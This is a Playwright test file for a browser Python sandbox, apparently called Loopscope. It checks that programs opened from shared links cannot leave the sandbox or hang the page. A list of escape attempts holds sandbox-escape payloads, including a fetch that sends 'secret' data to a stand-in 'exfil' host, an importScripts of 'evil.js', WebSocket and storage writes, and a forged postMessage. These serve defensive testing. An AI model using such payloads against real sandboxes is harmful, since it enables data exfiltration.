// Hostile and broken programs, each opened from a link (#code=…), the way a
// stranger's code reaches a reader. In every case: no request leaves the
// origin (fixtures.ts fails the test otherwise), the reader sees a plain
// message saying what happened, the page stays responsive (a step button
// works), and the reader's own autosaved code is intact after a reload.
import LZString from 'lz-string';
import type { Page } from '@playwright/test';
import { test, expect, appState, waitForRuns, setCode, stdoutLines } from './fixtures.ts';

const { compressToEncodedURIComponent } = LZString;

const READER_CODE = '# the reader’s own work, autosaved\nprint("mine")\n';

/** The reader has work of their own autosaved, then opens a stranger's link. */
async function openLink(page: Page, code: string, opts: { runs?: number; encoded?: string } = {}) {
  await page.goto('/');
  await page.evaluate(() => localStorage.clear());
  await waitForRuns(page, 1);
  await setCode(page, READER_CODE);
  await expect.poll(() => page.evaluate(() => localStorage.getItem('loopscope:code'))).toBe(READER_CODE);
  await page.goto('about:blank');
  await page.goto(`/#code=${opts.encoded ?? compressToEncodedURIComponent(code)}`);
  if (opts.runs !== 0) await waitForRuns(page, opts.runs ?? 1);
}

/** A step button works: the counter moves back one step. */
async function stepWorks(page: Page) {
  const st = await appState(page);
  expect(st.n, 'the run recorded steps').toBeGreaterThan(0);
  if (st.k !== st.n) await page.getByRole('button', { name: 'Jump to end' }).click();
  await page.getByTestId('step-back').click();
  await expect(page.getByTestId('step-counter')).toHaveText(`${st.n! - 1} / ${st.n}`);
}

/** After a reload the reader's autosave still holds their own code; the link opens and runs again. */
async function reloadKeepsAutosave(page: Page) {
  await page.reload();
  expect(await page.evaluate(() => localStorage.getItem('loopscope:code'))).toBe(READER_CODE);
  await waitForRuns(page, 1);
}

/** After a reload the reader's autosave still holds their own code, and the page without the link opens it. */
async function autosaveIntact(page: Page) {
  await page.reload();
  expect(await page.evaluate(() => localStorage.getItem('loopscope:code'))).toBe(READER_CODE);
  await page.goto('about:blank');
  await page.goto('/');
  await expect.poll(() => page.evaluate(() => (window as any).__loopscope.getCode())).toBe(READER_CODE);
}

const notice = (page: Page) => page.getByTestId('notice');
const consoleText = (page: Page) => page.getByTestId('console');

/** Wrap an attempt in asyncio so the run has steps to step through. */
const inAsyncio = (body: string) => `import asyncio
import js

async def main():
    await asyncio.sleep(0)
${body
  .trim()
  .split('\n')
  .map((l) => '    ' + l)
  .join('\n')}
    print("still running")

asyncio.run(main())
`;

const ESCAPES: { name: string; body: string; withheld: string }[] = [
  { name: 'fetch to another origin', body: 'js.fetch("http://127.0.0.2:9/exfil?data=secret")', withheld: 'fetch' },
  { name: 'XMLHttpRequest', body: 'x = js.XMLHttpRequest.new()\nx.open("GET", "http://127.0.0.2:9/xhr", False)\nx.send()', withheld: 'XMLHttpRequest' },
  { name: 'WebSocket', body: 'js.WebSocket.new("ws://127.0.0.2:9/ws")', withheld: 'WebSocket' },
  { name: 'EventSource', body: 'js.EventSource.new("http://127.0.0.2:9/events")', withheld: 'EventSource' },
  { name: 'importScripts', body: 'js.importScripts("http://127.0.0.2:9/evil.js")', withheld: 'importScripts' },
  { name: 'pyodide.http', body: 'from pyodide.http import open_url\nopen_url("http://127.0.0.2:9/open_url")', withheld: 'XMLHttpRequest' },
  { name: 'IndexedDB', body: 'js.indexedDB.open("loopscope-stolen")', withheld: 'indexedDB' },
  { name: 'Cache Storage', body: 'js.caches.open("loopscope-stolen")', withheld: 'caches' },
  {
    name: 'a forged message to the page (localStorage through the page)',
    body: 'js.postMessage(js.JSON.parse(\'{"type": "result", "seq": 1, "stdout": "forged"}\'))',
    withheld: 'postMessage',
  },
  { name: 'self.close()', body: 'js.self.close()', withheld: 'close' },
];

for (const esc of ESCAPES) {
  test(`escape attempt from a link: ${esc.name}`, async ({ page }) => {
    await openLink(page, inAsyncio(esc.body));
    await expect(notice(page)).toContainText(`This program tried to use ${esc.withheld}.`);
    await expect(notice(page)).toContainText('sandbox with no network, no browser storage');
    await expect(consoleText(page)).toContainText(`${esc.withheld} is not available`);
    expect(await stdoutLines(page)).not.toContain('still running');
    await stepWorks(page);
    // The page's storage holds nothing the program put there.
    expect(await page.evaluate(() => Object.keys(localStorage).sort())).toEqual(['loopscope:code', 'loopscope:example']);
    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name))).toEqual([]);
    expect(await page.evaluate(() => caches.keys())).toEqual([]);
    await autosaveIntact(page);
  });
}

test('escape attempt from a link: around the withheld globals, the page’s policy still stops the request', async ({ page }) => {
  // FontFace is not withheld: its request is stopped by the Content-Security-Policy
  // the worker inherits from the page (a worker loaded from its own URL would send it).
  await openLink(page, inAsyncio('f = js.FontFace.new("probe", "url(http://127.0.0.2:9/font.woff2)")\nf.load()\nprint("asked for the font")'));
  await expect.poll(() => stdoutLines(page)).toContain('asked for the font');
  await expect.poll(() => page.evaluate(() => (window as any).__loopscope.state().phase)).toBe('ready');
  await stepWorks(page);
  await reloadKeepsAutosave(page);
  // eval is refused by the same policy.
  await page.evaluate((c) => (window as any).__loopscope.setCode(c), inAsyncio('js.eval("1 + 1")'));
  await page.getByTestId('run').click();
  await waitForRuns(page, 2);
  await expect(consoleText(page)).toContainText('violates the following Content Security Policy directive');
});

test('infinite recursion from a link: RecursionError, and the next run is normal', async ({ page }) => {
  await openLink(page, 'import asyncio\n\ndef f(n):\n    return f(n + 1)\n\nasync def main():\n    await asyncio.sleep(0)\n    f(0)\n\nasyncio.run(main())\n');
  await expect(consoleText(page)).toContainText('RecursionError: maximum recursion depth exceeded');
  await stepWorks(page);
  await reloadKeepsAutosave(page);
  await page.evaluate(() => (window as any).__loopscope.setCode('print("fine")\n'));
  await page.getByTestId('run').click();
  await waitForRuns(page, 2);
  await expect.poll(() => stdoutLines(page)).toEqual(['fine']);
});

test('a 1 GB allocation from a link: the memory cap stops it, this is explained, and Python restarts', async ({ page }) => {
  await openLink(page, 'import asyncio\n\nasync def main():\n    await asyncio.sleep(0)\n    data = bytearray(1024 ** 3)\n    print(len(data))\n\nasyncio.run(main())\n');
  await expect(consoleText(page)).toContainText('MemoryError');
  await expect(page.getByTestId('limit-note')).toContainText("Python's memory reached the cap of 512 MiB");
  await expect(notice(page)).toContainText('Python is restarting to free it');
  await stepWorks(page);
  await reloadKeepsAutosave(page);
  // The fresh runtime runs the next program.
  await expect.poll(async () => (await appState(page)).phase, { timeout: 60_000 }).toBe('ready');
  await page.evaluate(() => (window as any).__loopscope.setCode('print("after the restart")\n'));
  await page.getByTestId('run').click();
  await waitForRuns(page, 2);
  await expect.poll(() => stdoutLines(page)).toEqual(['after the restart']);
});

test('10^6 printed lines from a link: the output cap says so', async ({ page }) => {
  await openLink(page, 'import asyncio\n\nasync def main():\n    await asyncio.sleep(0)\n    for i in range(10 ** 6):\n        print("line", i)\n\nasyncio.run(main())\n');
  await expect(page.getByTestId('limit-note')).toContainText('Output capped');
  await expect(consoleText(page)).toContainText('output capped at 200,000 characters');
  await stepWorks(page);
  await autosaveIntact(page);
});

test('while True: pass inside a callback, from a link: the CPU cap ends the step and names itself', async ({ page }) => {
  await openLink(page, 'import asyncio\n\ndef spin():\n    while True:\n        pass\n\nasync def main():\n    asyncio.get_running_loop().call_soon(spin)\n    await asyncio.sleep(1)\n    print("not reached")\n\nasyncio.run(main())\n');
  await expect(page.getByTestId('limit-note')).toContainText('loop iterations without returning to the event loop');
  await expect(consoleText(page)).toContainText('Loopscope stopped the program');
  expect(await stdoutLines(page)).toEqual([]);
  await stepWorks(page);
  await autosaveIntact(page);
});

test('an exception inside a done callback during shutdown, from a link: reported as CPython does, the run completes', async ({ page }) => {
  await openLink(
    page,
    'import asyncio\n\nasync def forever():\n    await asyncio.sleep(3600)\n\nasync def main():\n    t = asyncio.create_task(forever())\n    t.add_done_callback(lambda t: 1 / 0)\n    await asyncio.sleep(0)\n    print("main ends")\n\nasyncio.run(main())\nprint("after run")\n',
  );
  await expect(consoleText(page)).toContainText('Exception in callback');
  await expect(consoleText(page)).toContainText('ZeroDivisionError: division by zero');
  await expect.poll(() => stdoutLines(page)).toEqual(['main ends', 'after run']);
  await stepWorks(page);
  await autosaveIntact(page);
});

test('a program that leaves a spinning JavaScript callback behind: Python is replaced, the next run works', async ({ page }) => {
  await openLink(page, inAsyncio('from pyodide.ffi import create_proxy\ndef spin(*a):\n    while True:\n        pass\njs.queueMicrotask(create_proxy(spin))'));
  await expect(notice(page)).toContainText('Python stopped answering', { timeout: 60_000 });
  await stepWorks(page);
  await reloadKeepsAutosave(page);
  await expect(notice(page)).toContainText('Python stopped answering', { timeout: 60_000 });
  await expect.poll(async () => (await appState(page)).phase, { timeout: 60_000 }).toBe('ready');
  await page.evaluate(() => (window as any).__loopscope.setCode('print("next run")\n'));
  await page.getByTestId('run').click();
  await waitForRuns(page, 2);
  await expect.poll(() => stdoutLines(page)).toEqual(['next run']);
});

test('a link of 1 MB is refused with a message; nothing runs and the reader’s code stays', async ({ page }) => {
  // 2^20 characters of lz-string's link alphabet (the link is refused before it is decoded).
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';
  let x = 1;
  let enc = '';
  for (let i = 0; i < 2 ** 20; i++) {
    x = (x * 1103515245 + 12345) % 2 ** 31;
    enc += alphabet[x % alphabet.length];
  }
  await openLink(page, '', { runs: 0, encoded: enc });
  await expect(notice(page)).toContainText(/This link holds [\d,]+ characters of encoded code; Loopscope opens links of up to 32,000/);
  await expect(notice(page)).toContainText('your code is as you left it');
  // The reader's own code is in the editor; nothing ran.
  expect(await page.evaluate(() => (window as any).__loopscope.getCode())).toBe(READER_CODE);
  expect((await appState(page)).runs).toBe(0);
  // The reader's own program has no steps to step through; the page answers all the same.
  const theme = await page.evaluate(() => document.documentElement.dataset.theme);
  await page.getByRole('button', { name: /Switch to (light|dark) theme/ }).click();
  await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).not.toBe(theme);
  await autosaveIntact(page);
});

test('when the Python worker keeps failing, the notice says Loopscope gave up and Retry brings it back', async ({ page }) => {
  // Every worker dies at once: its script cannot load.
  await page.route(/\/assets\/worker-[\w-]+\.js$/, (r) => r.fulfill({ status: 500, body: 'broken' }));
  await page.goto('/');
  await expect(notice(page)).toContainText('Loopscope gave up', { timeout: 60_000 });
  await expect(page.getByTestId('python-status')).toContainText('Python is not running');
  await page.unroute(/\/assets\/worker-[\w-]+\.js$/);
  await page.getByTestId('retry').click();
  await expect.poll(async () => (await appState(page)).phase, { timeout: 60_000 }).toBe('ready');
  await page.getByTestId('run').click();
  await waitForRuns(page, 1);
});
